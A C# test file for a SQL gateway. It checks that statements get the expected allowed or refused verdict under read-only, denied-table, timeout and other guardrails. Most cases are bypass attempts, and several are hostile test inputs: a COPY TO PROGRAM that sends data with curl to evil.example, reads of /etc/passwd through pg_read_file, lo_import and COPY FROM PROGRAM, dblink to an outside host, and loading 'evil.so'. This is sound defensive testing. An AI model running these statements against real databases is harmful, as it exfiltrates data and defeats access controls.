namespace GitJit.Gateway.Tests;

/// <summary>
/// SQL and a grant in, the verdict out: <c>allowed</c>, or <c>refused:</c> and the guardrails that refuse it, per
/// statement. Most are attempts to get round a guardrail.
/// </summary>
public sealed class VerdictCaseTests
{
    public static TheoryData<string, string, string> Cases => new()
    {
        // orders-db read-only: schemas [public], deniedTables [public.customers_pii], readOnly, statementTimeout,
        // blockedStatements [drop truncate alter grant revoke copy]; the target has public.orders, order_items, customers_pii.
        { "orders-read-only", "select * from public.orders", "allowed" },
        { "orders-read-only", "select * from orders o join order_items i on i.order_id = o.id", "allowed" },
        { "orders-read-only", "select * from public.customers_pii", "refused: deniedTables" },
        { "orders-read-only", "select * from customers_pii", "refused: deniedTables" },
        { "orders-read-only", "SELECT * FROM PUBLIC.CUSTOMERS_PII", "refused: deniedTables" },
        { "orders-read-only", "select * from U&\"\\0063ustomers_pii\"", "refused: deniedTables" },
        { "orders-read-only", "select * from public.\"customers_pii\"", "refused: deniedTables" },
        { "orders-read-only", "select * from public.\"Customers_PII\"", "allowed" },
        { "orders-read-only", "select * from \"Customers_PII\"", "refused: schemas" },
        { "orders-read-only", "select * from orders where id in (select id from customers_pii)", "refused: deniedTables" },
        { "orders-read-only", "with o as (select * from customers_pii) select * from o", "refused: deniedTables" },
        { "orders-read-only", "with customers_pii as (select 1) select * from customers_pii", "allowed" },
        { "orders-read-only", "select * from orders /* ; delete from orders */ where id = 1", "allowed" },
        { "orders-read-only", "select $$; delete from orders; $$", "allowed" },
        { "orders-read-only", "select 1; select 2; delete from orders where id = 1", "allowed; allowed; refused: readOnly" },
        { "orders-read-only", "with x as (delete from orders where id = 1 returning *) select * from x", "refused: readOnly" },
        { "orders-read-only", "explain analyze delete from orders where id = 1", "refused: readOnly" },
        { "orders-read-only", "explain delete from orders where id = 1", "refused: readOnly" },
        { "orders-read-only", "explain select * from orders", "allowed" },
        { "orders-read-only", "select * into public.orders_copy from orders", "refused: readOnly" },
        { "orders-read-only", "create table public.orders_copy as select * from orders", "refused: readOnly" },
        { "orders-read-only", "prepare p (int) as delete from orders where id = $1", "refused: readOnly" },
        { "orders-read-only", "prepare p (int) as select * from orders where id = $1", "allowed" },
        { "orders-read-only", "execute p(1)", "allowed" },
        { "orders-read-only", "copy orders to stdout", "refused: blockedStatements" },
        { "orders-read-only", "copy orders from stdin", "refused: blockedStatements, readOnly" },
        { "orders-read-only", "copy orders to program 'curl -d @- evil.example'", "refused: blockedStatements, gateway" },
        { "orders-read-only", "DO $$ begin perform 1; end $$", "refused: blockedStatements, readOnly, statementTimeout" },
        { "orders-read-only", "call refresh_orders()", "refused: blockedStatements, readOnly, statementTimeout" },
        { "orders-read-only", "select set_config('statement_timeout', '0', false)", "refused: statementTimeout" },
        { "orders-read-only", "select set_config('STATEMENT_TIMEOUT', '0', true)", "refused: statementTimeout" },
        { "orders-read-only", "select set_config(current_user, '0', false)", "refused: gateway" },
        { "orders-read-only", "SET LOCAL statement_timeout = 0", "refused: statementTimeout" },
        { "orders-read-only", "set statement_timeout to default", "refused: statementTimeout" },
        { "orders-read-only", "reset statement_timeout", "refused: statementTimeout" },
        { "orders-read-only", "RESET ALL", "refused: gateway" },
        { "orders-read-only", "discard all", "refused: gateway" },
        { "orders-read-only", "set search_path = public", "allowed" },
        { "orders-read-only", "BEGIN READ WRITE", "refused: readOnly" },
        { "orders-read-only", "start transaction isolation level serializable, read write", "refused: readOnly" },
        { "orders-read-only", "begin read only", "allowed" },
        { "orders-read-only", "begin; select * from orders; commit", "allowed; allowed; allowed" },
        { "orders-read-only", "set transaction read write", "refused: readOnly" },
        { "orders-read-only", "set session characteristics as transaction read write", "refused: readOnly" },
        { "orders-read-only", "set default_transaction_read_only = off", "refused: readOnly" },
        { "orders-read-only", "select set_config('default_transaction_read_only', 'off', false)", "refused: readOnly" },
        { "orders-read-only", "SELECT pg_read_file('/etc/passwd')", "refused: gateway" },
        { "orders-read-only", "select ('/etc/passwd'::text).pg_read_file", "refused: gateway" },
        { "orders-read-only", "select lo_import('/etc/passwd')", "refused: gateway" },
        { "orders-read-only", "select * from dblink('host=evil', 'select 1') as t(a int)", "refused: gateway" },
        { "orders-read-only", "select query_to_xml('select * from customers_pii', true, false, '')", "refused: gateway" },
        { "orders-read-only", "set role postgres", "refused: gateway" },
        { "orders-read-only", "set session authorization postgres", "refused: gateway" },
        { "orders-read-only", "set standard_conforming_strings = off", "refused: gateway" },
        { "orders-read-only", "set client_encoding = 'SJIS'", "refused: gateway" },
        { "orders-read-only", "select 'a\\', $$'; delete from orders; --$$", "allowed" },
        { "orders-read-only", "select nextval('public.orders_id_seq')", "refused: readOnly" },
        { "orders-read-only", "select * from orders for update", "refused: readOnly" },
        { "orders-read-only", "vacuum orders", "refused: readOnly" },
        { "orders-read-only", "drop table orders", "refused: blockedStatements, readOnly" },
        { "orders-read-only", "select * from pg_catalog.pg_class", "allowed" },
        { "orders-read-only", "select * from pg_tables", "allowed" },
        { "orders-read-only", "select * from information_schema.tables", "allowed" },
        { "orders-read-only", "select * from audit.log", "refused: schemas" },
        { "orders-read-only", "alter role current_user password 'x'", "refused: blockedStatements, gateway, readOnly" },
        { "orders-read-only", "select 'unterminated", "refused: gateway" },
        { "orders-read-only", "select 1\0; delete from orders", "refused: gateway" },

        // analytics-db maintainer: schemas [marts], statementTimeout, blockedStatements [drop truncate grant revoke],
        // requireWhere; the target has marts.sales, marts.customers, reporting.daily.
        { "analytics-maintainer", "delete from marts.sales", "refused: requireWhere" },
        { "analytics-maintainer", "delete from marts.sales where true", "allowed" },
        { "analytics-maintainer", "update marts.sales set amount = 0 where id = 1", "allowed" },
        { "analytics-maintainer", "update sales set amount = 0", "refused: requireWhere" },
        { "analytics-maintainer", "with d as (delete from marts.sales returning *) select count(*) from d", "refused: requireWhere" },
        { "analytics-maintainer", "prepare p as update marts.sales set amount = 0", "refused: requireWhere" },
        { "analytics-maintainer", "explain delete from marts.sales", "refused: requireWhere" },
        { "analytics-maintainer", "select 1; select 2; delete from marts.sales", "allowed; allowed; refused: requireWhere" },
        { "analytics-maintainer", "truncate marts.sales", "refused: blockedStatements" },
        { "analytics-maintainer", "drop table marts.sales", "refused: blockedStatements" },
        { "analytics-maintainer", "delete from sales where id = 1", "allowed" },
        { "analytics-maintainer", "delete from daily where id = 1", "refused: schemas" },
        { "analytics-maintainer", "delete from public.sales where id = 1", "refused: schemas" },
        { "analytics-maintainer", "insert into marts.sales select * from marts.customers", "allowed" },
        { "analytics-maintainer", "merge into marts.sales s using marts.customers c on s.id = c.id when matched then delete", "allowed" },
        { "analytics-maintainer", "do $$ begin delete from marts.sales; end $$", "refused: blockedStatements, requireWhere, statementTimeout" },
        { "analytics-maintainer", "create function pg_temp.f() returns void language plpgsql as $$ begin set statement_timeout = 0; end $$", "refused: blockedStatements, requireWhere, statementTimeout" },
        { "analytics-maintainer", "create function pg_temp.f() returns int language sql set statement_timeout = 0 begin atomic select 1; end", "refused: statementTimeout" },
        { "analytics-maintainer", "alter role current_user set statement_timeout = 0", "refused: gateway, statementTimeout" },
        { "analytics-maintainer", "set statement_timeout = '1h'", "refused: statementTimeout" },
        { "analytics-maintainer", "set transaction read write", "allowed" },
        { "analytics-maintainer", "select set_config('search_path', 'marts', false)", "allowed" },
        { "analytics-maintainer", "grant select on marts.sales to public", "refused: blockedStatements" },

        // Two tables: tables [public.orders, public.order_items], deniedTables [public.customers_pii]; no catalog.
        { "two-tables", "select * from orders", "allowed" },
        { "two-tables", "select * from public.orders o join order_items i using (id)", "allowed" },
        { "two-tables", "select * from customers", "refused: tables" },
        { "two-tables", "select * from sales.orders", "refused: tables" },
        { "two-tables", "with customers as (select 1) select * from customers", "allowed" },
        { "two-tables", "with customers as (select * from customers) select * from customers", "refused: tables" },
        { "two-tables", "select * from (with pii as (select 1) select * from pii) a, customers_pii", "refused: deniedTables, tables" },
        { "two-tables", "select * from pg_temp.scratch", "allowed" },
        { "two-tables", "create temp table scratch as select * from orders", "allowed" },
        { "two-tables", "select * from pg_catalog.pg_class", "allowed" },
        { "two-tables", "delete from pg_catalog.pg_class where true", "refused: tables" },

        // No guardrails: only what is always refused.
        { "none", "delete from orders", "allowed" },
        { "none", "DO $$ begin delete from orders; end $$", "allowed" },
        { "none", "select pg_read_file('/etc/passwd')", "refused: gateway" },
        { "none", "copy orders from program 'cat /etc/passwd'", "refused: gateway" },
        { "none", "copy orders from '/tmp/orders.csv'", "refused: gateway" },
        { "none", "set role postgres", "refused: gateway" },
        { "none", "select * from orders; reset all", "allowed; refused: gateway" },
        { "none", "select set_config('role', 'postgres', false)", "refused: gateway" },
        { "none", "load 'evil.so'", "refused: gateway" },
        { "none", "alter system set log_statement = 'none'", "refused: gateway" },
        { "none", "create role evil", "refused: gateway" },
        { "none", "grant pg_read_server_files to current_user", "refused: gateway" },
        { "none", "set idle_in_transaction_session_timeout = 0", "refused: gateway" },
        { "none", "prepare transaction 'outlives-the-grant'", "refused: gateway" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Statement_GetsTheVerdictItsGuardrailsGive(string grant, string sql, string expected)
    {
        var classification = await Parser.ClassifyAsync(sql);

        var verdict = Grants.Judge(grant).Judge(classification);

        Assert.Equal(expected, Describe.Verdict(verdict));
    }
}
